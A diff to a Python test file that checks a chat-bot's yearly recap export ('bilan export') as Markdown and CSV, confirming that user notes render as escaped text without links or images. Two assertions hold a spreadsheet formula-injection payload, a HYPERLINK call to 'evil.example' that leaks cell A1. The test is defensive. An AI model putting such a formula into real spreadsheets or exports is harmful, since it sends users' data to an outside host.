@@ -125,6 +125,15 @@ async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(p
     assert split["63 Puy-de-Dôme"] == (30, '#,##0" h"', round(30 / 40.5, 6), '0"\u00a0"%')
     assert split["Commun"] == (10.5, '#,##0.0" h"', round(10.5 / 40.5, 6), '0"\u00a0"%')
 
+    md = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="md")
+    markdown = (await _last(md).attachments[0].read()).decode()
+    from markdown_it import MarkdownIt
+
+    rendered = MarkdownIt("gfm-like", {"linkify": True}).render(markdown)
+    assert "<a " not in rendered and "<img" not in rendered and "<code" not in rendered
+    assert "<h3>15 =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</h3>" in rendered
+    assert "<li>2018, Promeneurs : =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</li>" in rendered
+
     csv_result = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="csv")
     exported = await _last(csv_result).attachments[0].read()
     rows = _csv(exported)
